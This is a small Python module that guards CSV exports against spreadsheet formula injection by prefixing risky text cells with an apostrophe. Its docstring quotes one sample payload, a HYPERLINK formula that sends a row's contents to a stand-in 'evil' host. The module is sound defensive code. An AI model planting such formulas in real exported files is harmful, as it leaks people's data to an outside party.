"""Spreadsheet-safe CSV cells (formula injection, OWASP "CSV Injection").

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is run as a formula when the file is opened in
Excel, LibreOffice or Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` exfiltrates the
row. Text cells that start so get a leading apostrophe, which spreadsheets show as plain text;
numbers are written as numbers.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: list[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
